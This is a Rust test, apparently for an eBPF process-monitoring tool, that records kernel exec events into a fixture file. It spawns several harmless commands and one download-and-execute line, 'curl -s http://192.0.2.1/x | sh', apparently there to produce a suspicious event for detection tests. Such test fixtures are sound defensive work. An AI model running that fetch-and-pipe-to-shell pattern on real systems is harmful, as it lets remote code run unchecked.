//! Records what the kernel sends, for tests that run without privilege. Needs root; run by hand when a record's layout
//! changes: `cargo test --release --test record -- --ignored`.

use std::cell::RefCell;
use std::io::Write;
use std::process::Command;
use std::time::Duration;

use eunomia_host::source::SOURCES;
use libbpf_rs::{MapCore, MapFlags, ObjectBuilder, RingBufferBuilder};

#[test]
#[ignore = "writes tests/fixtures/process.records"]
fn record_the_process_source() {
    let source = SOURCES.iter().find(|source| source.name == "process").unwrap();
    let mut open = ObjectBuilder::default().open_memory(source.object).unwrap();
    for mut program in open.progs_mut() {
        let wanted = source.rungs[0].programs.iter().any(|name| program.name() == *name);
        program.set_autoload(wanted);
    }
    let object = open.load().unwrap();
    let map = |name: &str| object.maps().find(|map| map.name() == name).unwrap();
    let ring = map("events");
    let bytes = RefCell::new(Vec::new());
    let mut builder = RingBufferBuilder::new();
    builder
        .add(&ring, |record| {
            bytes.borrow_mut().extend(u32::try_from(record.len()).unwrap().to_le_bytes());
            bytes.borrow_mut().extend(record);
            0
        })
        .unwrap();
    let ring = builder.build().unwrap();
    map("control").update(&0u32.to_ne_bytes(), &u64::MAX.to_ne_bytes(), MapFlags::ANY).unwrap();
    let links: Vec<_> =
        object.progs_mut().filter(|program| program.autoload()).map(|program| program.attach().unwrap()).collect();
    for run in 0..20 {
        Command::new("/bin/true").arg(format!("run-{run}")).env_clear().current_dir("/").status().unwrap();
    }
    Command::new("/bin/sh")
        .args(["-c", "curl -s http://192.0.2.1/x | sh"])
        .env("PATH", "")
        .current_dir("/")
        .output()
        .unwrap();
    Command::new("/bin/sh").args(["-c", "exit 3"]).env_clear().current_dir("/").status().unwrap();
    drop(links);
    ring.consume().unwrap();
    std::thread::sleep(Duration::from_millis(10));
    ring.consume().unwrap();
    drop(ring);
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/process.records");
    std::fs::File::create(path).unwrap().write_all(&bytes.into_inner()).unwrap();
}
